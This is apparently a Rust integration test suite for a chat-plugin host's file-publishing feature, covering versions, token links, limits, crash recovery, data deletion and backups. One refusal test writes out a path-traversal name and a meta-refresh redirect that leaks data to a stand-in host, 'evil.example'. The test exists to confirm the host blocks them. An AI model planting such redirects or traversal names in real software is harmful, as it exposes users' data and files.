//! Published files: what a plugin publishes is on disk when it is told so, is shown to who may see it, and goes.

use std::net::TcpStream;
use std::path::PathBuf;

use chatplug::crash_point::{CrashPoint, VARIABLE};
use chatplug_tests::{Host, deliveries, guest};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::client::{accept, webhook};

const CONFIG: &str = "[plugin.clockwork]\nevents = [\"incoming_event\"]\n[plugin.clockwork.schedules]\nsecond = false\nslow \
                      = false\nlate = false\nnightly = false\n";

/// A host that has nothing to do commits less often, from its start on.
const COMMITS_MAX: usize = 100;

fn said(chat: &str, id: &str, text: &str) -> String {
    let event = json!({
        "id": id, "type": "message", "created_at": "2026-06-01T12:00:03.512000Z", "visibility": "all",
        "author_id": "b7eff798-f8df-4364-8059-649c35c9ed0c", "text": text,
    });
    webhook("incoming_event", &json!({ "chat_id": chat, "thread_id": format!("{chat}T"), "event": event }))
}

async fn get(url: &str) -> (StatusCode, String) {
    let response = reqwest::get(url).await.expect("the host answers");
    (response.status(), response.text().await.expect("the answer is text"))
}

/// The reasons of the plugin's deliveries, the oldest first.
fn reasons(events: &[Value]) -> Vec<&str> {
    events
        .iter()
        .flat_map(deliveries)
        .map(|delivery| delivery["reason"].as_str().unwrap_or_default())
        .collect()
}

fn published(host: &Host) -> PathBuf {
    host.data().with_file_name("published")
}

#[tokio::test]
async fn a_published_file_is_shown_listed_saved_and_kept_in_versions() {
    let host = Host::start(CONFIG, &[guest("guest_clockwork")]);
    accept(
        &host,
        said("C1", "1", "publish a.csv name,chats\npublish a.csv name,chats;2\npublish dashboard.json {}"),
    )
    .await;
    host.wait_until_done(1);
    let files = host.json(&["files", "list"]);
    let shown: Vec<Value> = files
        .as_array()
        .expect("a list")
        .iter()
        .map(|file| json!([file["name"], file["versions"], file["tokens"]]))
        .collect();
    assert_eq!(shown, [json!(["a.csv", 2, 0]), json!(["dashboard.json", 1, 0])]);
    assert_eq!(
        get(&host.operator_url("/files/clockwork/a.csv")).await,
        (StatusCode::OK, "name,chats;2".to_owned())
    );
    assert_eq!(get(&host.operator_url("/dashboard")).await, (StatusCode::OK, "{}".to_owned()));
    let history = host.json(&["files", "history", "clockwork", "a.csv"]);
    let oldest = history[1]["version"].to_string();
    assert_eq!((history.as_array().map(Vec::len), &history[0]["delivery"]), (Some(2), &json!("dl-1")));
    let show = |args: &[&str]| host.printed(&[&["files", "show", "clockwork", "a.csv"], args].concat());
    assert_eq!(show(&["--version", &oldest]), "name,chats\n");
    let saved = published(&host);
    show(&["--out", saved.to_str().expect("text")]);
    assert_eq!(std::fs::read_to_string(saved).expect("the file"), "name,chats;2");
    assert!(!host.cli(&["files", "show", "clockwork", "b.csv"]).status.success());
    let steps = host.json(&["events", "show", "ev-1"])["deliveries"][0]["steps"].clone();
    assert_eq!((&steps[0]["function"], &steps[0]["about"]), (&json!("files.publish"), &json!("a.csv")));
}

#[tokio::test]
async fn a_page_whose_time_is_over_is_shown_as_out_of_date_until_there_is_another_one() {
    let host = Host::start(CONFIG, &[guest("guest_clockwork")]);
    let page = |until: &str| format!("publish a.html <html/data-valid-until={until}><p>3</p>");
    accept(&host, said("C1", "1", &page("2001-01-01T00:00:00Z"))).await;
    host.wait_until_done(1);
    let link = host.json(&["files", "token", "clockwork", "a.html"]);
    let link = host.operator_url(link["path"].as_str().expect("a path"));
    let url = host.operator_url("/files/clockwork/a.html");
    for address in [&link, &url] {
        let (status, text) = get(address).await;
        assert_eq!(status, StatusCode::OK);
        assert!(text.contains("<p>3</p>") && text.contains("Out of date"), "{text}");
    }
    // Who asks for a version gets that and nothing else.
    let version = host.json(&["files", "history", "clockwork", "a.html"])[0]["version"].to_string();
    let (_, text) = get(&format!("{url}?version={version}")).await;
    assert!(text.ends_with("<p>3</p>"), "{text}");
    accept(&host, said("C1", "2", &page("2999-01-01T00:00:00Z"))).await;
    host.wait_until_done(2);
    let (_, text) = get(&link).await;
    assert!(text.ends_with("<p>3</p>"), "{text}");
}

#[tokio::test]
async fn a_link_works_until_it_is_revoked_with_the_host_up_or_down() {
    let mut host = Host::start(CONFIG, &[guest("guest_clockwork")]);
    accept(&host, said("C1", "1", "publish a.html <p>hi</p>\npublish b.html <p>no</p>")).await;
    host.wait_until_done(1);
    let link = host.json(&["files", "token", "clockwork", "a.html"]);
    let path = link["path"].as_str().expect("a path").to_owned();
    assert_eq!(get(&host.operator_url(&path)).await, (StatusCode::OK, "<p>hi</p>".to_owned()));
    assert_eq!(
        get(&host.operator_url(&path.replace("/a.html", "/b.html"))).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert!(!host.log().contains(link["token"].as_str().expect("a token")));
    assert!(host.stop(), "{}", host.log());
    assert!(host.printed(&["files", "token", "clockwork", "a.html"]).starts_with("http://127.0.0.1:"));
    assert_eq!(host.json(&["files", "list"])[0]["tokens"], 2);
    assert_eq!(host.json(&["files", "revoke", "clockwork", "a.html"])["revoked"], 2);
    host.run();
    assert_eq!(get(&host.operator_url(&path)).await.0, StatusCode::UNAUTHORIZED);
    let audit = host.deeds();
    let deeds: Vec<&Value> = audit.iter().map(|deed| &deed["action"]).collect();
    assert_eq!(deeds, ["files.revoke", "files.token", "files.token"]);
}

#[tokio::test]
async fn what_is_no_file_is_refused_and_a_flood_ends() {
    let config = format!("{CONFIG}[plugin.clockwork.limits]\nfile_bytes = 1000\nfiles = 1\n");
    let host = Host::start(&config, &[guest("guest_clockwork")]);
    for (id, text) in [
        ("1", "publish ../a.csv x"),
        ("2", "publish a.svg x"),
        ("3", "flood a.txt 1001"),
        ("4", "flood a.txt 1000"),
        ("5", "publish b.txt x"),
        ("6", "publish a.html <meta/http-equiv=\"refresh\"/content=\"0;url=//evil.example/?d=mary\">"),
    ] {
        accept(&host, said("C1", id, text)).await;
    }
    let events = host.wait_until_done(6);
    let reasons = reasons(&events);
    let expected = [
        "is no name of a published file",
        "is no name of a published file",
        "0 times, then limit: the file `a.txt` has 1001 bytes, at most 1000 are published (limits.file_bytes)",
        "8 times, then limit: an attempt publishes at most 8000 bytes, 8 times limits.file_bytes",
        "at most 1 are kept",
        "the page `a.html` is not published, as it has `<meta http-equiv=",
    ];
    assert_eq!(reasons.len(), expected.len());
    for (reason, part) in reasons.iter().zip(expected) {
        assert!(reason.contains(part), "{reason}");
    }
    assert_eq!(host.json(&["files", "list"])[0]["versions"], 8);
}

/// Posts a message and waits until the plugin is done with it; answers whether the host ended instead.
async fn crashes_on(host: &Host, body: String) -> bool {
    let is_gone = || TcpStream::connect(host.address()).is_err();
    let posted = reqwest::Client::new().post(host.url("/webhooks/livechat")).body(body).send().await;
    if !posted.is_ok_and(|answer| answer.status() == StatusCode::OK) {
        return true;
    }
    host.wait_for("the plugin to be done, or the host to be gone", || {
        let is_pending = |delivery: &Value| delivery["state"] == "pending";
        let is_done = !host.events().iter().flat_map(deliveries).any(is_pending);
        let is_gone = is_gone();
        (is_gone || is_done).then_some(is_gone)
    })
}

#[tokio::test]
async fn a_crash_at_any_commit_neither_loses_nor_repeats_a_publication() {
    for point in [CrashPoint::BeforeCommit, CrashPoint::AfterCommit] {
        let mut host = Host::prepared(CONFIG, &[guest("guest_clockwork")]);
        let (mut crashes, mut time) = (0, 0);
        // Until it comes through: by then it has ended at each commit of a start, a webhook and a publication.
        loop {
            time += 1;
            assert!(time < COMMITS_MAX, "{point:?}: it ends for ever");
            host.set_env(VARIABLE, Some(&format!("{}:{time}", point.as_str())));
            let body = said("C1", &format!("{point:?}{time}"), "publish a.txt one\npublish b.txt two");
            // It may end while it starts, at the webhook, or while the plugin publishes.
            let has_crashed = host.try_run().is_err() || crashes_on(&host, body).await;
            host.kill();
            if !has_crashed {
                break;
            }
            crashes += 1;
        }
        assert!(crashes > 2, "{point:?}");
        host.set_env(VARIABLE, None);
        host.run();
        let events = host.wait_until_done(1);
        let files = host.json(&["files", "list"]);
        let versions = |place: usize| files[place]["versions"].as_u64().unwrap_or_default() as usize;
        // Whatever was stored has published each file one time.
        assert_eq!((versions(0), versions(1)), (events.len(), events.len()), "{point:?}: {files}");
        let succeeded = |delivery: &Value| delivery["state"] == "succeeded";
        assert!(events.iter().flat_map(deliveries).all(succeeded), "{events:#?}");
    }
}

#[tokio::test]
async fn a_person_s_files_are_forgotten_and_the_others_stay() {
    let host = Host::start(CONFIG, &[guest("guest_clockwork")]);
    accept(
        &host,
        said("C1", "1", "publish a.txt C1,mary@example.com\npublish a.txt C10\npublish b.txt by:C1"),
    )
    .await;
    host.wait_until_done(1);
    assert_eq!(host.json(&["forget", "--email", "mary@example.com", "--dry-run"])["files"], 1);
    assert_eq!(host.json(&["forget", "--chat", "C1"])["files"], 2);
    let files = host.json(&["files", "list"]);
    assert_eq!((files.as_array().map(Vec::len), &files[0]["versions"]), (Some(1), &json!(1)), "{files}");
    assert_eq!(get(&host.operator_url("/files/clockwork/a.txt")).await.1, "C10");
    assert_eq!(get(&host.operator_url("/files/clockwork/b.txt")).await.0, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_backup_has_the_files_and_a_restore_brings_them_back() {
    let mut host = Host::start(CONFIG, &[guest("guest_clockwork")]);
    accept(&host, said("C1", "1", "publish a.txt before")).await;
    host.wait_until_done(1);
    let path =
        host.json(&["files", "token", "clockwork", "a.txt"])["path"].as_str().expect("a path").to_owned();
    let copy = host.data().with_file_name("copy.db");
    let copy = copy.to_str().expect("the path is text").to_owned();
    host.json(&["backup", &copy]);
    accept(&host, said("C1", "2", "publish a.txt after")).await;
    host.wait_until_done(2);
    assert!(host.stop(), "{}", host.log());
    host.json(&["restore", &copy]);
    host.run();
    assert_eq!(get(&host.operator_url(&path)).await, (StatusCode::OK, "before".to_owned()));
}
